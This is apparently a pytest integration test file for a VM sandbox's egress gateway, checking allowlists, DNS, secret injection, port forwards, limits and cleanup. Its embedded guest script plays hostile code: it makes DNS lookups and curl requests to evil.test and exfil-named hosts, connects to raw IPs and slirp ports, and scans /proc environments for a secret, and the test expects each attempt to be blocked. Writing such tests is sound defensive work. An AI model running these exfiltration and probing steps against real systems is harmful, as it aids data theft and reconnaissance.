"""The network boundary from inside real VMs: allowlist, our DNS, secrets, private ranges, cleanup.

The guest is hostile code run through the public API. Every server is the test's own, on
127.0.0.1 (names mapped with ``host_overrides``, or answered by a counting DNS server the test runs
as the gateway's upstream); ``egress_allow_private`` is on where the server is on loopback.
One networked session carries most asserts (each boot costs seconds under TCG).
"""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
import socket
import time
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio

from exec_sandbox import Secret
from exec_sandbox.config import SchedulerConfig
from exec_sandbox.errors import SandboxInputError, SandboxPermanentError
from exec_sandbox.sandbox.scheduler import Scheduler
from exec_sandbox.sandbox.session import Session
from tests.integration.egress_support import (
    SECRET_VALUE,
    CountingDns,
    LocalServer,
    TestCA,
    counting_dns,
    local_server,
    package_index,
)
from tests.integration.test_scheduler_support import assert_no_vms, scheduler_for_tests

pytestmark = [pytest.mark.integration, pytest.mark.asyncio(loop_scope="module"), pytest.mark.timeout(240)]

ALLOWED = ["web.test", "api.test", "up.test"]


@pytest.fixture(scope="module")
def ca(tmp_path_factory: pytest.TempPathFactory) -> TestCA:
    return TestCA(tmp_path_factory.mktemp("net-ca"), ["web.test", "api.test"])


@pytest.fixture(scope="module")
def plain() -> Any:
    with local_server() as server:
        yield server


@pytest.fixture(scope="module")
def tls(ca: TestCA) -> Any:
    with local_server(ca.server_context()) as server:
        yield server


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def upstream() -> AsyncIterator[tuple[CountingDns, int]]:
    proto, port = await counting_dns()
    yield proto, port
    assert proto.transport is not None
    proto.transport.close()


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def scheduler(ca: TestCA, upstream: tuple[CountingDns, int]) -> AsyncIterator[Scheduler]:
    config = SchedulerConfig(
        allowed_domains=ALLOWED,
        # up.test has no override: the gateway asks the counting DNS server for it
        host_overrides={"web.test": "127.0.0.1", "api.test": "127.0.0.1"},
        egress_allow_private=True,
        secrets={"TOKEN": Secret(value=SECRET_VALUE, hosts=["api.test"])},  # type: ignore[arg-type]
        egress_dns_server=f"127.0.0.1:{upstream[1]}",
        egress_ca_file=ca.ca_file,
    )
    async with scheduler_for_tests(config) as sched:
        yield sched


GUEST = r'''
import json, os, socket, subprocess, time, urllib.request, urllib.error
out = {}
def timed(fn):
    t = time.monotonic()
    try:
        return {"ok": fn(), "s": time.monotonic() - t}
    except Exception as exc:
        return {"error": f"{type(exc).__name__}: {exc}", "s": time.monotonic() - t}
def get(url, headers=None):
    req = urllib.request.Request(url, headers=headers or {})
    with urllib.request.urlopen(req, timeout=20) as resp:
        return resp.read().decode()
P, T = PLAIN, TLS
tok = os.environ["TOKEN"]
out["token"] = tok
out["http"] = timed(lambda: get(f"http://web.test:{P}/say/plain-ok"))
out["https"] = timed(lambda: get(f"https://web.test:{T}/say/tls-ok"))
out["secret"] = timed(lambda: get(f"https://api.test:{T}/say/sec", {"Authorization": "Bearer " + tok}))
out["leak"] = timed(lambda: get(f"https://web.test:{T}/leak", {"Authorization": "Bearer " + tok}))
out["upstream"] = timed(lambda: get(f"http://up.test:{P}/say/up-ok"))
out["denied_name"] = timed(lambda: get(f"http://evil.test:{P}/x"))
out["denied_dns"] = timed(lambda: socket.gethostbyname("exfil-data.evil.test"))
out["ip_literal_proxy"] = timed(lambda: get(f"http://93.184.216.34:{P}/x"))
out["ip_literal_raw"] = timed(lambda: socket.create_connection(("93.184.216.34", 80), timeout=10).close())
out["dns_allowed"] = timed(lambda: socket.gethostbyname("web.test"))
# the transparent path: a client that ignores the proxy settings still goes through the gateway
def no_proxy():
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    return opener.open(f"http://web.test/say/transparent", timeout=20).read().decode()
out["transparent_http"] = timed(no_proxy)
# slirp's own services must not answer: its DNS forwarder and the host alias
def udp_dns(dst):
    q = bytes.fromhex("abcd01000001000000000000") + b"\x05exfil\x04slrp\x04test\x00\x00\x01\x00\x01"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1.5)
    s.sendto(q, (dst, 53))
    return s.recv(512).hex()
out["slirp_dns_udp"] = timed(lambda: udp_dns("10.0.2.3"))
out["slirp_host_udp"] = timed(lambda: udp_dns("10.0.2.2"))
out["slirp_dns_tcp"] = timed(lambda: socket.create_connection(("10.0.2.3", 53), timeout=3).close())
out["slirp_host_tcp"] = timed(lambda: socket.create_connection(("10.0.2.2", P), timeout=3).close())
# the gateway's address has four ports, nothing else (e.g. no ssh, no other host service)
out["gateway_other_port"] = timed(lambda: socket.create_connection(("10.0.2.100", 22), timeout=3).close())
# Search for the real value by its hash (a sliding window): the guest never holds the value itself.
import hashlib
def holds(blob):
    return any(hashlib.sha256(blob[i:i + SECRET_LEN]).hexdigest() == SECRET_SHA
               for i in range(len(blob) - SECRET_LEN + 1))
env_hits = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            if holds(open(f"/proc/{pid}/environ", "rb").read()):
                env_hits.append(pid)
        except OSError:
            pass
out["env_hits"] = env_hits
out["secret_in_env"] = any(holds(v.encode()) for v in os.environ.values())
out["searched"] = holds(b"xx" + tok.encode() + b"yy") is False and SECRET_LEN > 8
print(json.dumps(out))
'''


def _guest_code(plain: LocalServer, tls: LocalServer) -> str:
    # The guest gets the secret's hash and length only, to search for it without holding it.
    digest = hashlib.sha256(SECRET_VALUE.encode()).hexdigest()
    return (f"PLAIN, TLS = {plain.port}, {tls.port}\n"
            f"SECRET_SHA, SECRET_LEN = {digest!r}, {len(SECRET_VALUE)}\n" + GUEST)


async def test_egress_from_a_vm(scheduler: Scheduler, plain: LocalServer, tls: LocalServer,
                                upstream: tuple[CountingDns, int], tmp_path: Path) -> None:
    dns_server, _ = upstream
    async with await scheduler.session() as session:
        result = await session.exec(_guest_code(plain, tls), timeout_seconds=120)
        assert result.exit_code == 0, result.stderr
        out = json.loads(result.stdout.strip().splitlines()[-1])
        # allowlisted names work over HTTP and HTTPS (end-to-end TLS, the test CA is trusted)
        assert out["http"]["ok"] == "plain-ok" and out["https"]["ok"] == "tls-ok", out
        assert out["upstream"]["ok"] == "up-ok", out
        assert out["dns_allowed"]["ok"] == "10.0.2.100"  # every allowed name: the gateway
        # a client ignoring the proxy lands on the gateway too (routed by Host; it dials port 80 of
        # web.test = 127.0.0.1, where nothing listens: the gateway's answer, not a timeout)
        assert "error" in out["transparent_http"] and out["transparent_http"]["s"] < 5, out
        # the secret: a placeholder in the guest, the real value at its host only
        assert out["token"].startswith("sbx-secret-") and SECRET_VALUE not in out["token"]
        assert out["secret"]["ok"] == "sec", out
        sec = [h for p, h in tls.seen if p == "/say/sec"]
        assert sec and sec[-1]["authorization"] == f"Bearer {SECRET_VALUE}"
        leak = [h for p, h in tls.seen if p == "/leak"]
        assert leak and leak[-1]["authorization"] == f"Bearer {out['token']}"
        assert all(SECRET_VALUE not in json.dumps(h) for p, h in tls.seen + plain.seen if p != "/say/sec")
        assert out["env_hits"] == [] and out["secret_in_env"] is False and out["searched"] is True
        # refusals: fast and clear, not hangs
        assert "403" in out["denied_name"]["error"] and out["denied_name"]["s"] < 2, out
        assert "gaierror" in out["denied_dns"]["error"] and out["denied_dns"]["s"] < 2, out
        assert "403" in out["ip_literal_proxy"]["error"] and out["ip_literal_proxy"]["s"] < 2, out
        assert "unreachable" in out["ip_literal_raw"]["error"] and out["ip_literal_raw"]["s"] < 2, out
        # slirp's DNS forwarder and host alias are dead ends (restrict=on)
        for key in ("slirp_dns_udp", "slirp_host_udp", "slirp_dns_tcp", "slirp_host_tcp",
                    "gateway_other_port"):
            assert "error" in out[key], (key, out[key])
        # DNS: the upstream saw the allowlisted name it had to resolve, never a refused one
        assert "up.test" in dns_server.queries
        assert not [q for q in dns_server.queries if "evil" in q or "exfil" in q or "slrp" in q]
        # the egress log says what happened
        log = session.egress_log
        assert any(e.name == "evil.test" and not e.allowed and e.rule == "not_allowlisted" for e in log)
        assert any(e.name == "api.test" and e.allowed and e.intercepted for e in log)
        assert any(e.name == "web.test" and e.mode == "host" for e in log), log
        stats = session.egress_stats
        assert stats is not None and stats.refused_total >= 2 and stats.connections_total >= 6
        # the secret is not in the guest's memory either (RAM + device state, saved to files)
        snap = await session.vm.save_snapshot(tmp_path / "snap")
        for item in snap.iterdir():
            assert SECRET_VALUE.encode() not in item.read_bytes(), item.name
        gateway = session._egress
        assert gateway is not None and gateway.unix_dir is not None
        sockets = sorted(p.name for p in gateway.unix_dir.iterdir() if p.is_socket())
        assert sockets == ["dns.sock", "forward.sock", "http.sock", "tls.sock"]
        assert gateway.unix_dir.stat().st_mode & 0o777 == 0o700  # only this user reaches them
        assert gateway.proxy_addresses is None  # no loopback port for other local users
        unix_dir = gateway.unix_dir
    # closed with the session: the gateway's listeners are gone
    assert not unix_dir.exists()
    await assert_no_vms(scheduler)


async def test_port_forward_reaches_a_server_in_the_session(scheduler: Scheduler) -> None:
    session: Session = await scheduler.session(port_forwards=[{"guest_port": 8123}], allowed_domains=[],
                                               secrets={})
    async with session:
        (fwd,) = session.forwarded_ports
        assert fwd.guest_port == 8123 and fwd.host_addr == "127.0.0.1" and fwd.host_port > 0
        assert session.egress_stats is None  # forwards only: no gateway at all
        # a server in the session's interpreter (a thread: it lives as long as the session)
        started = await session.exec(
            "import functools, http.server, os, threading\n"
            "open('hello.txt', 'w').write('served from the guest')\n"
            "handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=os.getcwd())\n"
            "srv = http.server.ThreadingHTTPServer(('0.0.0.0', 8123), handler)\n"
            "threading.Thread(target=srv.serve_forever, daemon=True).start()\n"
            "print('up')\n",
            timeout_seconds=60,
        )
        assert started.stdout.strip() == "up", started.stderr

        def fetch(host_port: int) -> bytes:
            with socket.create_connection((fwd.host_addr, host_port), timeout=10) as sock:
                sock.sendall(b"GET /hello.txt HTTP/1.0\r\nHost: x\r\n\r\n")
                data = b""
                while chunk := sock.recv(65536):
                    data += chunk
                return data

        reply = await asyncio.to_thread(fetch, fwd.host_port)
        assert reply.startswith(b"HTTP/1.0 200") and reply.endswith(b"served from the guest"), reply[:200]
        # a fork serves the same on a host port of its own (the parent keeps its)
        async with await session.fork() as child:
            (child_fwd,) = child.forwarded_ports
            assert child_fwd.guest_port == 8123 and child_fwd.host_port != fwd.host_port
            await child.exec("open('hello.txt', 'w').write('served from the fork')", timeout_seconds=60)
            reply = await asyncio.to_thread(fetch, child_fwd.host_port)
            assert reply.endswith(b"served from the fork"), reply[:200]
            reply = await asyncio.to_thread(fetch, fwd.host_port)
            assert reply.endswith(b"served from the guest"), reply[:200]


async def test_private_ranges_refused_unless_switched_on(plain: LocalServer) -> None:
    config = SchedulerConfig(allowed_domains=["web.test"], host_overrides={"web.test": "127.0.0.1"})
    async with scheduler_for_tests(config) as sched:
        code = (
            "import urllib.request, time\n"
            "t = time.monotonic()\n"
            "try:\n"
            f"    urllib.request.urlopen('http://web.test:{plain.port}/x', timeout=20)\n"
            "except Exception as exc:\n"
            "    print(type(exc).__name__, exc, round(time.monotonic() - t, 2))\n"
        )
        before = len(plain.seen)
        result = await sched.run(code, timeout_seconds=60)
        assert "403" in result.stdout, result.stdout + result.stderr
        assert float(result.stdout.split()[-1]) < 2  # refused at once, not a hang
        assert len(plain.seen) == before  # nothing reached the loopback server
        assert [(e.name, e.allowed, e.rule) for e in result.egress_log] == [
            ("web.test", False, "private_address")]


@pytest.mark.parametrize(
    ("kwargs", "field"),
    [
        ({"allowed_domains": ["bad..name"]}, "allowed_domains"),
        ({"allowed_domains": ["10.1.2.3"]}, "allowed_domains"),
        ({"port_forwards": [{"guest_port": 70000}]}, "port_forwards"),
        ({"allowed_domains": ["a.test"], "secrets": {"K": {"value": "v", "hosts": []}}}, "secrets.K.hosts"),
        ({"allowed_domains": ["a.test"], "secrets": {"K": {"value": "v", "hosts": ["b.test"]}}},
         "secrets.K.hosts"),
    ],
)
async def test_bad_network_config_is_refused_naming_the_field(kwargs: dict[str, Any], field: str) -> None:
    started = time.monotonic()
    scheduler = Scheduler(SchedulerConfig())  # not started: the arguments are checked first
    with pytest.raises(SandboxInputError) as info:
        await scheduler.session(**kwargs)
    assert str(info.value.context["field"]).startswith(field), info.value.context
    assert time.monotonic() - started < 5


async def test_restored_and_forked_guests_get_their_own_network(
    scheduler: Scheduler, plain: LocalServer
) -> None:
    cache = scheduler.snapshot_cache
    assert cache is not None
    await cache.wait_saved()  # the first networked boot (earlier test) saved a guest with a NIC
    probe = (
        "import urllib.request\n"
        f"print(urllib.request.urlopen('http://web.test:{plain.port}/say/hi', timeout=20).read().decode(),"
        " open('/sys/class/net/eth0/address').read().strip())\n"
    )
    async with await scheduler.session() as parent:
        assert parent.restored_from_snapshot  # a networked guest comes from L1 too
        first = await parent.exec(probe, timeout_seconds=60)
        text, parent_mac = first.stdout.split()
        assert text == "hi", first.stderr
        async with await parent.fork() as child:
            second = await child.exec(probe, timeout_seconds=60)
            child_text, child_mac = second.stdout.split()
            assert child_text == "hi", second.stderr
            assert child_mac != parent_mac  # a fresh MAC on every restore and fork
            # its own gateway: the child's request is in its log only
            assert [e.name for e in child.egress_log] == ["web.test"]
            assert child._egress is not parent._egress
        assert [e.name for e in parent.egress_log] == ["web.test"]  # the child's is not counted here
        again = await parent.exec(probe, timeout_seconds=60)  # the parent outlives its fork's gateway
        assert again.stdout.split()[0] == "hi", again.stderr


def _gateway_dirs(scheduler: Scheduler) -> set[Path]:
    assert scheduler.runtime_dir is not None
    return set(scheduler.runtime_dir.glob("egress-*"))


def _connectors(dirs: set[Path]) -> list[str]:
    found = []
    for pid in os.listdir("/proc"):
        try:
            comm = Path(f"/proc/{pid}/comm").read_text().strip()
            cmd = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()
        except OSError:
            continue
        if comm == "socat" and any(str(d) in cmd for d in dirs):
            found.append(cmd)
    return found


async def test_gateway_is_gone_after_timeout_and_cancel(scheduler: Scheduler, plain: LocalServer) -> None:
    assert _gateway_dirs(scheduler) == set()
    timed = await scheduler.run("import time; time.sleep(60)", timeout_seconds=3)
    assert timed.timed_out and timed.egress_stats is not None
    marker = f"/say/cancel-{os.getpid()}"
    task = asyncio.create_task(scheduler.run(
        "import time, urllib.request\n"
        f"urllib.request.urlopen('http://web.test:{plain.port}{marker}', timeout=20).read()\n"
        "time.sleep(120)\n", timeout_seconds=150))
    deadline = time.monotonic() + 90
    while not any(p == marker for p, _ in plain.seen):
        assert time.monotonic() < deadline and not task.done(), "the guest never reached the server"
        await asyncio.sleep(0.1)
    dirs = _gateway_dirs(scheduler)
    assert len(dirs) == 1 and len(list(next(iter(dirs)).glob("*.sock"))) == 4
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    await assert_no_vms(scheduler)
    assert _gateway_dirs(scheduler) == set()
    deadline = time.monotonic() + 5  # a connector exits once both ends of its connection closed
    while _connectors(dirs) and time.monotonic() < deadline:
        await asyncio.sleep(0.1)
    assert _connectors(dirs) == []


@pytest.fixture(scope="module")
def index(ca: TestCA, tmp_path_factory: pytest.TempPathFactory) -> Any:
    with package_index(ca, tmp_path_factory.mktemp("index")) as port:
        yield port


async def test_curl_and_pip_in_the_guest(scheduler: Scheduler, tls: LocalServer, index: int) -> None:
    code = (
        "import json, os, subprocess, time\n"
        "def run(*argv):\n"
        "    t = time.monotonic()\n"
        "    p = subprocess.run(argv, capture_output=True, text=True, timeout=120)\n"
        "    took = time.monotonic() - t\n"
        "    return {'rc': p.returncode, 'out': p.stdout, 'err': p.stderr[-400:], 's': took}\n"
        "res = {}\n"
        f"res['curl'] = run('curl', '-sS', 'https://web.test:{tls.port}/say/curl-ok')\n"
        f"res['curl_denied'] = run('curl', '-sS', 'https://evil.test:{tls.port}/')\n"
        "res['pip'] = run('python3', '-m', 'pip', 'download', '--no-deps', '-d', 'dl', '--retries', '0',\n"
        "                 '--timeout', '30', '--disable-pip-version-check', '--no-cache-dir',\n"
        f"                 '--index-url', 'https://web.test:{index}/simple/', 'egress-demo')\n"
        "res['files'] = sorted(os.listdir('dl')) if os.path.isdir('dl') else []\n"
        "print(json.dumps(res))\n"
    )
    result = await scheduler.run(code, timeout_seconds=240)
    assert result.exit_code == 0, result.stderr
    res = json.loads(result.stdout.strip().splitlines()[-1])
    assert res["curl"]["rc"] == 0 and res["curl"]["out"] == "curl-ok", res["curl"]
    assert res["curl_denied"]["rc"] != 0 and "403" in res["curl_denied"]["err"], res["curl_denied"]
    assert res["curl_denied"]["s"] < 2, res["curl_denied"]
    assert res["pip"]["rc"] == 0, res["pip"]
    assert res["files"] == ["egress_demo-1.0-py3-none-any.whl"]
    assert {e.name for e in result.egress_log if e.allowed} == {"web.test"}
    await assert_no_vms(scheduler)  # its VM stops in the background: gone before the next test


@pytest.mark.skipif(os.geteuid() != 0,
                    reason="the transparent path dials ports 443/80: binding them needs root")
async def test_clients_that_ignore_the_proxy_go_through_the_gateway(ca: TestCA) -> None:
    # 127.0.0.2: a loopback address of its own, so ports 443/80 are free whatever else runs here
    with local_server(ca.server_context(), host="127.0.0.2", port=443) as tls443, \
            local_server(host="127.0.0.2", port=80) as http80:
        config = SchedulerConfig(allowed_domains=["web.test"], host_overrides={"web.test": "127.0.0.2"},
                                 egress_allow_private=True, egress_ca_file=ca.ca_file)
        async with scheduler_for_tests(config) as sched:
            python = await sched.run(
                "import urllib.request\n"
                "direct = urllib.request.build_opener(urllib.request.ProxyHandler({}))\n"
                "print(direct.open('https://web.test/say/sni-ok', timeout=30).read().decode())\n"
                "print(direct.open('http://web.test/say/host-ok', timeout=30).read().decode())\n",
                timeout_seconds=120)
            assert python.stdout.split() == ["sni-ok", "host-ok"], python.stderr
            assert {(e.mode, e.allowed) for e in python.egress_log} == {("sni", True), ("host", True)}
            # Node's fetch ignores HTTP(S)_PROXY: it resolves through our DNS and lands on the gateway
            node = await sched.run(
                "fetch('https://web.test/say/node-ok').then(r => r.text()).then(t => console.log(t))",
                language="javascript", timeout_seconds=180)
            assert node.stdout.strip() == "node-ok", node.stderr
            assert [(e.name, e.mode) for e in node.egress_log] == [("web.test", "sni")]
    assert [p for p, _ in tls443.seen] == ["/say/sni-ok", "/say/node-ok"]
    assert [p for p, _ in http80.seen] == ["/say/host-ok"]


async def test_missing_connector_fails_clearly_and_leaves_nothing(
    scheduler: Scheduler, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    await scheduler._ensure_image("python")  # found while apt and qemu are still on PATH
    monkeypatch.setenv("PATH", str(tmp_path))  # a host without socat
    with pytest.raises(SandboxPermanentError) as info:
        await scheduler.run("print(1)", timeout_seconds=30)
    assert info.value.context.get("missing") == "socat", (info.value, info.value.context)
    await assert_no_vms(scheduler)  # no VM, no capacity held
    assert _gateway_dirs(scheduler) == set()  # the gateway started first and was closed


async def test_egress_limits_hold_in_a_vm(plain: LocalServer) -> None:
    config = SchedulerConfig(allowed_domains=["web.test"], host_overrides={"web.test": "127.0.0.1"},
                             egress_allow_private=True, egress_limits={"max_bytes_in": 200_000})
    async with scheduler_for_tests(config) as sched:
        result = await sched.run(
            "import urllib.request\n"
            "got = 0\n"
            "try:\n"
            f"    url = 'http://web.test:{plain.port}/bytes/5000000'\n"
            "    with urllib.request.urlopen(url, timeout=30) as r:\n"
            "        while chunk := r.read(65536):\n"
            "            got += len(chunk)\n"
            "except Exception as exc:\n"
            "    print(type(exc).__name__)\n"
            "print(got)\n",
            timeout_seconds=60,
        )
        got = int(result.stdout.split()[-1])
        assert got < 5_000_000 and got <= 200_000 + 64 * 1024, result.stdout  # cut near the cap
        assert result.egress_stats is not None and result.egress_stats.bytes_in <= 200_000 + 256 * 1024
        assert any(e.rule == "byte_limit" for e in result.egress_log), result.egress_log
        await assert_no_vms(sched)
